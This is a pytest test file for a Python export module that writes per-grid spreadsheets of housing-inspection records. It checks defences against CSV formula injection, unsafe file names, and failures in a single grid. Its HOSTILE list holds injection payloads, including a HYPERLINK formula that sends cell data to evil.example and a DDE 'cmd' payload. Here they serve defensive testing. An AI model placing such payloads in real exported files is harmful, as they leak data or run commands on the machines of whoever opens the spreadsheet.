"""Issue 17 item 1 and item 4's export parts: safe cells (OWASP CSV injection), safe file names, per-grid isolation."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from gridlake import cells
from jobs.gold import exports

NIGHT = dt.date(2026, 11, 3)
HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
HOSTILE = [HOSTILE_ADDRESS, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠x"]


def _rec(grid: str, rank: int = 1, *, street: str = "沙头街道", **kw) -> dict:
    rec = {
        "run_date": NIGHT, "street": street, "community": "上沙社区", "grid_id": grid, "officer_id": f"O-{grid}",
        "rank": rank, "discrepancy_id": f"00ab{rank:012d}", "rule": "R1", "rule_title": "出租屋有执法记录但无人申报",
        "house_code": "440304001001001001", "address": "上沙村东村二坊12号602", "priority": 5.0 / rank,
        "reason_codes": ["ACTIVE_RENTAL"], "evidence_categories": ["公安"], "masked_id": "4403**********1234",
        "masked_name": "张*明", "masked_phone": "138****5678", "is_new": True, "due_date": dt.date(2026, 11, 10),
        "status": "open",
    }
    rec.update(kw)
    return rec


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_quoted(text):
    out = cells.safe_text(text)
    assert out.startswith("'")
    assert not any(ch in out for ch in "\x00\x01\x0b\x0c")


@pytest.mark.parametrize("text,expected", [
    ("上沙村12号", "上沙村12号"), ("", ""), (None, ""), ("12-3-501", "12-3-501"), ("a\x00b\x07c", "abc"),
    ("line1\nline2", "line1 line2"), ("'=x", "'=x"),
])
def test_ordinary_text_kept_controls_removed(text, expected):
    assert cells.safe_text(text) == expected
    assert cells.safe_text(cells.safe_text(text)) == cells.safe_text(text)  # idempotent


def test_hostile_address_and_name_never_become_formulas(tmp_path):
    recs = [_rec("G001", i + 1, address=text, masked_name="=张*明" if i == 0 else "张*明",
                 rule_title="@标题" if i == 1 else "出租屋有执法记录但无人申报", house_code=f"-44030400100100100{i}")
            for i, text in enumerate(HOSTILE)]
    recs.append(_rec("G001", len(recs) + 1, address="a\x00b\x1b[31mc\x08d"))
    stats = exports.write_exports(recs, tmp_path, NIGHT, outcomes=["属实", "未出租"])
    assert stats["failed_grids"] == 0
    xlsx = tmp_path / "2026-11-03" / "沙头街道" / "G001.xlsx"
    ws = load_workbook(xlsx).active
    headers = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=1):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(cells.FORMULA_TRIGGERS), cell.coordinate
    addr = [ws.cell(row=r, column=headers.index("地址") + 1).value for r in range(2, ws.max_row + 1)]
    assert addr[0] == "'" + HOSTILE_ADDRESS
    assert addr[-1] == "ab[31mcd"  # controls removed, the rest kept
    assert ws.cell(row=2, column=headers.index("人员(脱敏)") + 1).value == "'=张*明"
    # the raw XML holds no formula element at all
    import zipfile

    with zipfile.ZipFile(xlsx) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet

    raw = (tmp_path / "2026-11-03" / "沙头街道" / "G001.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    col = rows[0].index("地址")
    for row in rows[1:]:
        assert not row[col].startswith(cells.FORMULA_TRIGGERS)
        for value in row:
            assert not value.startswith(cells.FORMULA_TRIGGERS), value
    assert rows[1][col] == "'" + HOSTILE_ADDRESS


def test_colliding_grid_names_never_overwrite(tmp_path):
    recs = [_rec("G:1"), _rec("G?1"), _rec("G_1"), _rec("g_1")]
    recs.sort(key=lambda r: (r["street"], r["grid_id"]))
    stats = exports.write_exports(recs, tmp_path, NIGHT, outcomes=["属实"])
    assert stats["grids"] == 4 and stats["failed_grids"] == 0
    night = tmp_path / "2026-11-03"
    files = sorted(p.name for p in night.rglob("*.xlsx"))
    assert len(files) == 4 and len({f.casefold() for f in files}) == 4
    assert "G_1.xlsx" in files  # a name that needed no change keeps it
    index = json.loads((night / "index.json").read_text(encoding="utf-8"))
    assert len({e["xlsx"] for e in index["files"]}) == 4
    again = exports.write_exports(recs, tmp_path, NIGHT, outcomes=["属实"])  # deterministic: nothing rewritten
    assert again["files_written"] == 0


def test_long_names_are_shortened_safely(tmp_path):
    street = "街" * 200  # 600 bytes in UTF-8
    recs = [_rec("网" * 100 + "1", street=street), _rec("网" * 100 + "2", street=street)]
    stats = exports.write_exports(recs, tmp_path, NIGHT, outcomes=["属实"])
    assert stats["grids"] == 2 and stats["failed_grids"] == 0
    paths = list((tmp_path / "2026-11-03").rglob("*.xlsx"))
    assert len(paths) == 2
    for p in paths:
        assert len(p.name.encode("utf-8")) <= 255 and len(p.parent.name.encode("utf-8")) <= 255
    assert len({p.name for p in paths}) == 2


def test_one_bad_grid_does_not_stop_the_others(tmp_path):
    recs = [_rec("G1"), _rec("G2", priority="not a number"), _rec("G3", street="沙头街道[1]")]
    recs.sort(key=lambda r: (r["street"], r["grid_id"]))
    stats = exports.write_exports(recs, tmp_path, NIGHT, outcomes=["属实"])
    assert stats["grids"] == 2 and stats["failed_grids"] == 1
    index = json.loads((tmp_path / "2026-11-03" / "index.json").read_text(encoding="utf-8"))
    assert [(f["street"], f["grid_id"]) for f in index["failed"]] == [("沙头街道", "G2")]
    assert index["failed"][0]["error"] in ("builtins.TypeError", "builtins.ValueError")
    assert "not a number" not in json.dumps(index)


@pytest.mark.parametrize("value", ["CON", "aux.txt", "..", "", None, " . "])
def test_reserved_and_empty_names(value):
    stem = cells.safe_stem(value, "unknown")
    assert stem and stem not in (".", "..") and not cells._WINDOWS_RESERVED.match(stem)


def test_sheet_title_accepts_anything():
    assert cells.sheet_title("G[1]:*?/\\") == "G_1______"
    assert len(cells.sheet_title("x" * 80)) == 31
